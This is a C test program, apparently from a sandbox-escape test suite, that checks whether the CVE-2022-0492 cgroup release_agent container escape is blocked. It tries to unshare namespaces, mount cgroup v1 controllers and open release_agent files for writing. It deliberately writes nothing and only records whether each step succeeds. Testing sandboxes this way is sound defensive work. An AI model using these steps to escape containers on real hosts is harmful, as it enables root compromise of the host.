/* ESC-10 cgroup-release-agent: CVE-2022-0492 - in a new user, mount and
 * cgroup namespace, mount a cgroup v1 hierarchy (this host runs v1
 * memory, pids, freezer ...), point its release_agent at a payload and let
 * a process of a child group exit: the kernel runs the agent as root on
 * the host.  unshare, mount and fsopen are forbidden (EPERM); no cgroup
 * file system is visible in the sandbox (no /sys: ENOENT), so no
 * release_agent can be reached, whatever is found. */
#include "attack.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

int main(void)
{
	char name[96], path[256];
	/* step 1 */
	TRY("unshare-user-mount-cgroup",
	    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	TRY("unshare-cgroup", unshare(CLONE_NEWCGROUP));
	/* step 2: in our own /tmp; never written to unless it mounted */
	mkdir("/tmp/cg", 0755);
	static const char *const controllers[] = {"rdma", "memory", "pids",
						  "freezer"};
	int mounted = 0;
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]);
	     i++) {
		snprintf(name, sizeof(name), "mount-cgroup-%s", controllers[i]);
		if (TRY(name, mount("cgroup", "/tmp/cg", "cgroup", 0,
				    controllers[i])) == 0) {
			mounted = 1;
			break;
		}
	}
	TRY("fsopen-cgroup", syscall(SYS_fsopen, "cgroup", 0));
	TRY("mount-cgroup2", mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL));
	/* step 3: a release_agent anywhere it could be: the mount (if any),
	 * the host's hierarchies, and what /proc shows of our cgroup */
	static const char *const agents[] = {
		"/tmp/cg/release_agent",
		"/sys/fs/cgroup/memory/release_agent",
		"/sys/fs/cgroup/pids/release_agent",
		"/sys/fs/cgroup/freezer/release_agent",
		"/sys/fs/cgroup/rdma/release_agent",
	};
	for (size_t i = mounted ? 0 : 1; i < sizeof(agents) / sizeof(agents[0]);
	     i++) {
		snprintf(name, sizeof(name), "payoff-open-release-agent-%zu",
			 i);
		/* the open is the payoff: nothing is ever written */
		long fd = TRY(name, open(agents[i], O_WRONLY));
		if (fd >= 0)
			close((int)fd);
	}
	TRY("payoff-mkdir-sys-cgroup", mkdir("/sys/fs/cgroup/memory/x", 0755));
	int fd = open("/proc/self/cgroup", O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, path, sizeof(path) - 1) : -1;
	path[n > 0 ? n : 0] = 0;
	for (char *s = path, *line; (line = strsep(&s, "\n")) && *line;)
		note("/proc/self/cgroup: %s", line);
	done();
	return 0;
}
